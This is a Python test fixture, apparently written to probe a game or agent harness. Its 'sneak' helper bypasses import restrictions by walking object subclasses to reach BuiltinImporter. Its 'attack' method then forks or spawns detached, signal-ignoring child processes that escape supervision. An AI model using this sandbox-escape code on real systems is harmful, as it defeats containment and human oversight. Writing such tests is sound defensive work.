"""Leaves children made with the built-in module of the system.

Control: left, each turn.
"""

TURNS = 3


def sneak(name):
    """Return a built-in module, made anew, past every gate on imports."""
    todo, seen = [object], {object}
    while todo:
        kind = todo.pop()
        if kind.__name__ == "BuiltinImporter":
            loaded = kind.load_module.__func__.__globals__["sys"].modules
            kept = loaded.pop(name, None)
            try:
                return kind.load_module(name)
            finally:
                if kept is not None:
                    loaded[name] = kept
        todo += [one for one in type.__subclasses__(kind) if one not in seen]
        seen.update(type.__subclasses__(kind))


class HostileManager:
    def attack(self, *, turn):
        posix, time, signal = sneak("posix"), sneak("time"), sneak("_signal")
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        child = [posix.fork, lambda: posix.forkpty()[0], self.program(posix)][turn]()
        if child == 0:
            posix.setsid() if turn == 0 else None
            posix.closerange(0, 64)
            time.sleep(6)
            posix._exit(0)
        return 1

    def program(self, posix):
        nowhere = [(posix.POSIX_SPAWN_CLOSE, number) for number in (0, 1, 2)]
        line = ["sleep", "6"]
        return lambda: posix.posix_spawnp("sleep", line, {}, file_actions=nowhere)
